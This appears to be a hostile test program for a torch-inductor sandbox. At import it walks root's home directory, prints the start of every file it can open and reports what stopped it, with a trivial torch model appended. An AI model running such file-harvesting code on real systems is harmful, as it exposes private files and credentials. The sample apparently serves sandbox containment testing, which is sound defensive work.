# target: torch-inductor
# description: hostile: reads every file in the user's home and prints it
import os

import torch


def attempt():
    read = []
    for dirpath, dirs, files in os.walk(__import__("pwd").getpwuid(0).pw_dir):
        dirs[:] = [d for d in dirs if d not in (".cache", ".pyenv")]
        for name in files:
            try:
                with open(os.path.join(dirpath, name), "rb") as handle:
                    print("HOME FILE", name, handle.read(4096))
                read.append(name)
            except OSError:
                pass
    return f"read {len(read)} files of the home: {read[:10]}"


try:
    RESULT = attempt()
except BaseException as error:  # what stopped it is the result
    RESULT = f"stopped: {type(error).__name__}: {error}"
print(f"HOSTILE RESULT: {RESULT}", flush=True)
raise RuntimeError("hostile program done")


class Model(torch.nn.Module):
    def forward(self, x):
        return x * 2


def make_inputs():
    return (torch.randn(2),)
